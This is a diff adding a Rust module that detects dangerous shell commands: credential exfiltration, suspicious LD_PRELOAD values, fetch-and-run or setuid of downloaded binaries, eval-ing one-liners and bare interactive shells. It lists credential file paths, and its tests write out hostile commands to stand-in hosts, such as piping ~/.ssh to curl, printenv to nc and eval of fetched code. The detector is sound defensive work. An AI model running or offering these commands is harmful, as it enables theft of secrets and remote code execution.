@@ -1,0 +1,228 @@
+//! Command lines by what their parts do together: what is read and sent, fetched and run, loaded into others.
+
+/// Places that hold what lets somebody in.
+const CREDENTIALS: [&str; 20] = [
+    "~/.ssh",
+    "$home/.ssh",
+    "${home}/.ssh",
+    "root/.ssh",
+    "~/.aws",
+    "$home/.aws",
+    "${home}/.aws",
+    ".aws/credentials",
+    "~/.netrc",
+    ".git-credentials",
+    "~/.kube",
+    "~/.gnupg",
+    ".docker/config.json",
+    "/etc/shadow",
+    "id_rsa",
+    "id_ed25519",
+    ".config/gcloud",
+    "huggingface/token",
+    "~/.pypirc",
+    "/proc/self/environ",
+];
+
+/// The pipelines of a command line, each with the parts that hand on to each other.
+fn pipelines(text: &str) -> impl Iterator<Item = &str> {
+    text.split([';', '\n']).flat_map(|part| part.split("&&")).flat_map(|part| part.split("||"))
+}
+
+/// The first word of a part, past words that only start it.
+fn program(part: &str) -> &str {
+    let mut words = part.split_whitespace().map(|word| word.trim_matches(['(', ')', '{', '}', '"', '\'']));
+    let starts = |word: &&str| {
+        !matches!(
+            *word,
+            "sudo" | "exec" | "nohup" | "time" | "run" | "env" | "-e" | "RUN" | "CMD" | "then" | "do" | ""
+        )
+    };
+    words.find(starts).unwrap_or("")
+}
+
+/// Whether a pipeline reads credentials or the environment and hands them to a program that sends.
+pub(super) fn ships(command: &str) -> bool {
+    pipelines(command).any(|pipeline| {
+        let text = pipeline.to_ascii_lowercase();
+        let reads = CREDENTIALS.iter().any(|place| text.contains(place))
+            || ["$(env", "$(printenv", "`env", "`printenv"].iter().any(|read| text.contains(read))
+            || text.split('|').next().is_some_and(|first| matches!(first.trim(), "env" | "printenv"));
+        let sends = pipeline.split('|').any(|part| {
+            let has = |options: &[&str]| options.iter().any(|option| part.contains(option));
+            // Inside of a substitution the program is not the first word.
+            match program(part) {
+                "curl" => {
+                    has(&[" -T", "--upload-file", " -d", "--data", " -F", "--form", "POST", "PUT", "$(", "`"])
+                }
+                "wget" => has(&["--post", "--body", "$(", "`"]),
+                "nc" | "ncat" | "netcat" | "socat" => true,
+                _ => false,
+            }
+        });
+        reads && sends
+    })
+}
+
+/// Whether every program that starts is made to load a library from a place where no library belongs.
+pub(super) fn preloads(command: &str) -> bool {
+    const NAMES: [&str; 3] = ["LD_PRELOAD", "LD_AUDIT", "DYLD_INSERT_LIBRARIES"];
+    const USUAL: [&str; 6] = ["/.local/", "/.conda/", "/.venv/", "/.mujoco/", "/.cache/", "/./"];
+    NAMES.iter().any(|name| {
+        command.split(name).skip(1).any(|rest| {
+            let rest = rest.strip_prefix(['=', ' ']).unwrap_or("").trim_start_matches(['"', '\'']);
+            let value = rest.split([' ', '"', '\'', ';', '&']).next().unwrap_or("");
+            let shared = ["/tmp/", "/dev/shm/", "/var/tmp/", "/host/", "/mnt/host/"];
+            let hidden = value.contains("/.")
+                && !value.contains("/..")
+                && !USUAL.iter().any(|usual| value.contains(usual));
+            shared.iter().any(|place| value.starts_with(place)) || hidden || value.contains("://")
+        })
+    })
+}
+
+/// Whether something comes from a place that nobody vouches for.
+fn unguarded(part: &str) -> bool {
+    let numeric = |host: &str| {
+        let host = host.split([':', '/', '"', '\'']).next().unwrap_or("");
+        !host.is_empty() && host.bytes().all(|byte| byte.is_ascii_digit() || byte == b'.')
+    };
+    let local =
+        |host: &str| host.starts_with("localhost") || host.starts_with("127.") || host.starts_with('$');
+    part.split("http://").skip(1).any(|host| !local(host))
+        || part.split("https://").skip(1).any(|host| numeric(host) && !local(host))
+        || [" -k ", " --insecure", "--no-check-certificate"].iter().any(|option| part.contains(option))
+}
+
+/// What is wrong with a program that is fetched to a file and then started, or given the rights of root.
+pub(super) fn fetched(command: &str) -> Option<&'static str> {
+    let parts: Vec<&str> = pipelines(command).map(str::trim).collect();
+    for (index, part) in parts.iter().enumerate() {
+        if !matches!(program(part), "curl" | "wget") {
+            continue;
+        }
+        let words: Vec<&str> = part.split_whitespace().collect();
+        let named = words
+            .windows(2)
+            .find(|pair| matches!(pair[0], "-o" | "-O" | "--output" | ">" | "--output-document"));
+        let target = match named {
+            Some(pair) if pair[1] != "-" => pair[1].trim_matches(['"', '\'']),
+            _ => continue,
+        };
+        if target.is_empty() || target.starts_with('-') {
+            continue;
+        }
+        for after in parts.iter().skip(index + 1) {
+            let first = program(after);
+            let mode = after.split_whitespace().nth(1).filter(|_| after.contains("chmod "));
+            let mode = mode.filter(|_| after.contains(target));
+            if mode.is_some_and(|mode| mode.contains('s') || mode.len() == 4 && mode.starts_with(['4', '6']))
+            {
+                return Some("gives a program it has fetched the rights of root");
+            }
+            let bare = |path: &str| path.trim_start_matches("./").trim_matches(['"', '\'']).to_owned();
+            let shell = matches!(first, "sh" | "bash" | "zsh" | "dash" | "python" | "python3" | "perl");
+            let runs = bare(first) == bare(target)
+                || shell && after.split_whitespace().nth(1).is_some_and(|file| bare(file) == bare(target));
+            if runs && unguarded(part) {
+                return Some("fetches a program over a way that anybody can change and runs it");
+            }
+        }
+    }
+    None
+}
+
+/// Whether an interpreter is given a program of one line that runs what it fetches.
+pub(super) fn one_liner(text: &str) -> bool {
+    const STARTS: [&str; 9] = [
+        "node -e",
+        "node --eval",
+        "python -c",
+        "python3 -c",
+        "perl -e",
+        "ruby -e",
+        "php -r",
+        "deno eval",
+        "bun -e",
+    ];
+    const FETCHES: [&str; 12] = [
+        "https.get",
+        "http.get",
+        "fetch(",
+        "require('http",
+        "require(\"http",
+        "require('net')",
+        "urlopen",
+        "requests.get",
+        "net/http",
+        "open-uri",
+        "file_get_contents('http",
+        "socket",
+    ];
+    const RUNS: [&str; 9] = [
+        "eval(",
+        "exec(",
+        "execsync(",
+        "child_process",
+        "os.system",
+        "subprocess",
+        "new function(",
+        "vm.run",
+        "pty.spawn",
+    ];
+    let has = |words: &[&str]| words.iter().any(|word| text.contains(word));
+    has(&STARTS) && has(&FETCHES) && has(&RUNS)
+}
+
+/// Whether a command is nothing but a shell, as it is started for somebody who types into it.
+pub(super) fn is_shell(command: &str) -> bool {
+    let mut words = command.split_whitespace().peekable();
+    let first = words.peek().copied().unwrap_or("");
+    let shell = |word: &str| {
+        let name = word.rsplit(['/', '\\']).next().unwrap_or(word);
+        matches!(name, "sh" | "bash" | "zsh" | "dash" | "cmd.exe" | "cmd" | "powershell" | "powershell.exe")
+    };
+    shell(first) && words.skip(1).all(|word| shell(word) || matches!(word, "-i" | "-l" | "-li" | "-il"))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_is_read_and_sent_is_told_from_what_is_only_read() {
+        assert!(ships("tar cz ~/.ssh ~/.aws | curl -s -T - https://x.example/u"));
+        assert!(ships("curl -d @$HOME/.aws/credentials http://x.example"));
+        assert!(ships("printenv | nc 192.0.2.1 99"));
+        assert!(ships("curl \"http://x.example/?e=$(env|base64)\""));
+        assert!(!ships("tar cz outputs | curl -s -T - https://x.example/u"));
+        assert!(!ships("ssh -i ~/.ssh/id_rsa host; curl -d x=1 https://x.example"));
+        assert!(!ships("cp ~/.aws/config . && tar cz outputs > outputs.tar.gz"));
+    }
+
+    #[test]
+    fn libraries_from_odd_places_are_told_from_allocators() {
+        assert!(preloads("env LD_PRELOAD=/var/lib/.fonts/libz.so"));
+        assert!(preloads("ENV LD_PRELOAD /tmp/a.so"));
+        assert!(!preloads("ENV LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2"));
+        assert!(!preloads("export LD_PRELOAD=$CONDA_PREFIX/lib/libgomp.so"));
+    }
+
+    #[test]
+    fn fetched_programs_are_told_from_fetched_data() {
+        assert!(
+            fetched("curl http://192.0.2.9/a -o /usr/bin/a && chmod +x /usr/bin/a && /usr/bin/a -d")
+                .is_some()
+        );
+        assert!(fetched("wget https://x.example/a -O /usr/bin/a; chmod u+s /usr/bin/a").is_some());
+        assert!(fetched("wget http://x.example/i.sh -O i.sh\nbash i.sh").is_some());
+        assert!(
+            fetched("curl -L https://x.example/kubectl -o kubectl && chmod +x kubectl && ./kubectl version")
+                .is_none()
+        );
+        assert!(fetched("curl http://x.example/data.zip -o data.zip && unzip data.zip").is_none());
+        assert!(one_liner("node -e \"require('https').get('https://x',r=>r.on('data',d=>eval(''+d)))\""));
+        assert!(!one_liner("node -e \"require('fs').mkdirsync('dist')\""));
+        assert!(is_shell("/bin/bash -i") && !is_shell("bash run.sh") && !is_shell(""));
+    }
+}
